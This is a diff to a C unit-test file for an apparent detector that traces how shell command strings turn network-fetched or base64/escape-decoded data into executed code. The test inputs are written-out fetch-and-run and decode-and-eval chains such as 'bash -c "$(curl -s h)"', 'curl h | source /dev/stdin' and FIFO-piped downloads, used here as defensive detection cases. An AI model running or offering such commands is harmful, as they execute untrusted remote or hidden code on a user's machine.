@@ -274,7 +274,20 @@ static void a_decoder_is_told_by_what_it_does(void **s)
 	assert_true(decodes("/usr/bin/python3|-c|import base64; print(base64.b64decode(x))"));
 	assert_false(decodes("/usr/bin/python3|-c|import base64; print(base64.b64encode(x))"));
 	assert_true(decodes("printf|\\x69\\x64\\x69\\x64\\x69\\x64\\x69\\x64"));
-	assert_false(decodes("printf|\\x69\\x64"));
+	assert_true(decodes("printf|\\x69\\x64"));
+	assert_false(decodes("printf|\\033[1mx\\033[0m"));
+	assert_false(decodes("printf|\\x69"));
+	assert_true(decodes("openssl|aes-256-cbc|-d|-in|f"));
+	assert_false(decodes("openssl|aes-256-cbc|-e|-in|f"));
+	assert_true(decodes("python3|-m|base64|-d"));
+	assert_false(decodes("python3|-m|base64"));
+	assert_true(decodes("tr|A-Za-z|N-ZA-Mn-za-m"));
+	assert_false(decodes("tr|A-Z|a-z"));
+	assert_false(decodes("tr|-d|a-z"));
+	assert_true(decodes("jq|-r|.x|@base64d"));
+	assert_false(decodes("jq|-r|.x|@base64"));
+	assert_true(decodes("sed|s/../\\\\x&/g"));
+	assert_false(decodes("sed|s/../x&/g"));
 	assert_true(decodes("busybox|base64|-d"));
 }
 
@@ -282,10 +295,12 @@ static char told[256];
 
 static void tell(void *ctx, const struct shell_flow *flow)
 {
+	static const char *const ways[] = { "pipe", "words", "mode", "executed", "sourced" };
+
 	(void)ctx;
 	snprintf(told, sizeof(told), "%s%s%s%s: %.*s", flow->origins & ORIGIN_NETWORK ? "net " : "",
-		 flow->origins & ORIGIN_DECODER ? "decoder " : "", flow->builtin ? "builtin " : "",
-		 flow->substituted ? "words" : "pipe", (int)flow->text.len, flow->text.ptr);
+		 flow->origins & ORIGIN_DECODER ? "decoder " : "", flow->told ? "" : "untold ",
+		 ways[flow->way], (int)flow->text.len, flow->text.ptr);
 }
 
 static const char *flows(const char *string)
@@ -307,14 +322,69 @@ static void a_command_string_says_what_becomes_a_program(void **s)
 	assert_string_equal(flows("echo x; cat f | base64 -d | python3 -"),
 			    "decoder pipe: base64 -d | python3 -");
 	assert_string_equal(flows("echo -e '" ESCAPES "' | sh"),
-			    "decoder builtin pipe: echo -e '" ESCAPES "' | sh");
+			    "decoder untold pipe: echo -e '" ESCAPES "' | sh");
 	assert_string_equal(flows("bash -c \"$(curl -s h)\""),
-			    "net words: bash -c \"$(curl -s h)\"");
+			    "net untold words: bash -c \"$(curl -s h)\"");
 	assert_string_equal(flows("eval \"$(echo x | base64 -d)\""),
-			    "decoder words: eval \"$(echo x | base64 -d)\"");
-	assert_string_equal(flows(". <(curl -s h)"), "net words: . <(curl -s h)");
+			    "decoder untold words: eval \"$(echo x | base64 -d)\"");
+	assert_string_equal(flows(". <(curl -s h)"), "net untold words: . <(curl -s h)");
 	assert_string_equal(flows("eval `printf '" ESCAPES "'`"),
-			    "decoder words: eval `printf '" ESCAPES "'`");
+			    "decoder untold words: eval `printf '" ESCAPES "'`");
+}
+
+static void a_variable_carries_what_was_put_into_it(void **s)
+{
+	(void)s;
+	assert_string_equal(flows("x=$(curl -s h); eval \"$x\""), "net untold words: eval \"$x\"");
+	assert_string_equal(flows("x=$(curl -s h); bash -c $x"), "net untold words: bash -c $x");
+	assert_string_equal(flows("x=`echo a | base64 -d`; $x"), "decoder untold words: $x");
+	assert_string_equal(flows("export x=$(curl -s h); echo $x | sh"),
+			    "net untold pipe: echo $x | sh");
+	assert_string_equal(flows("curl h | while read -r l; do eval \"$l\"; done"),
+			    "net untold words: do eval \"$l\"");
+	assert_string_equal(flows("read x < <(base64 -d f); ${x}"), "decoder untold words: ${x}");
+	assert_string_equal(flows("for i in $(curl -s h); do sh -c \"$i\"; done"),
+			    "net untold words: do sh -c \"$i\"");
+	assert_string_equal(flows("x=$(curl -s h); x=1; eval $x"), "-");
+	assert_string_equal(flows("x=$(curl -s h); eval $y"), "-");
+	assert_string_equal(flows("x=$(curl -s h); bash -c \"make V=$x\""), "-");
+	assert_string_equal(flows("x=$(curl -s h); $x/bin/tool; $DIR/$x"), "-");
+	assert_string_equal(flows("x=$(curl -s h); eval '$x'"), "-");
+	assert_string_equal(flows("x=$(curl -s h); [ \"$x\" = up ] && sh -c 'echo up'"), "-");
+}
+
+static void a_here_string_and_a_first_word_are_programs(void **s)
+{
+	(void)s;
+	assert_string_equal(flows("bash <<< \"$(curl -s h)\""),
+			    "net untold words: bash <<< \"$(curl -s h)\"");
+	assert_string_equal(flows("$(echo x | base64 -d)"),
+			    "decoder untold words: $(echo x | base64 -d)");
+	assert_string_equal(flows("$'\\x69\\x64'"), "decoder untold words: $'\\x69\\x64'");
+	assert_string_equal(flows("exec 3< <(curl -s h); sh /dev/fd/3"),
+			    "net untold words: sh /dev/fd/3");
+	assert_string_equal(flows("curl h | source /dev/stdin"),
+			    "net untold words: source /dev/stdin");
+	assert_string_equal(flows("cat <<< \"$(curl -s h)\""), "-");
+	assert_string_equal(flows("echo $'\\x69\\x64'"), "-");
+	assert_string_equal(flows("exec 3< <(curl -s h); cat /dev/fd/3"), "-");
+}
+
+static void a_file_carries_it_through_copies(void **s)
+{
+	(void)s;
+	assert_string_equal(flows("base64 -d e > x; sh x"), "decoder executed: sh x");
+	assert_string_equal(flows("base64 -d e > x; chmod 755 x"), "decoder mode: chmod 755 x");
+	assert_string_equal(flows("base64 -d e > x; cp x y; cat y > z; . ./z"),
+			    "decoder untold sourced: . ./z");
+	assert_string_equal(flows("curl -so x h; dd if=x of=y; sh < y"), "net executed: sh < y");
+	assert_string_equal(flows("mkfifo p; sh p & curl h > p"), "net untold executed: sh p");
+	assert_string_equal(flows("printf '" ESCAPES "' > x; sh x"),
+			    "decoder untold executed: sh x");
+	assert_string_equal(flows("sh x; curl h > x"), "-");
+	assert_string_equal(flows("base64 -d e > x; chmod 600 x"), "-");
+	assert_string_equal(flows("base64 -d e > x; wc x > y; sh y"), "-");
+	assert_string_equal(flows("base64 -d e > x; echo 1 > x; sh x"), "-");
 }
 
 static void most_command_strings_do_not(void **s)
@@ -354,6 +424,9 @@ int main(void)
 		cmocka_unit_test(a_start_up_variable_reaches_for_a_file_of_the_run),
 		cmocka_unit_test(a_decoder_is_told_by_what_it_does),
 		cmocka_unit_test(a_command_string_says_what_becomes_a_program),
+		cmocka_unit_test(a_variable_carries_what_was_put_into_it),
+		cmocka_unit_test(a_here_string_and_a_first_word_are_programs),
+		cmocka_unit_test(a_file_carries_it_through_copies),
 		cmocka_unit_test(most_command_strings_do_not),
 	};
 
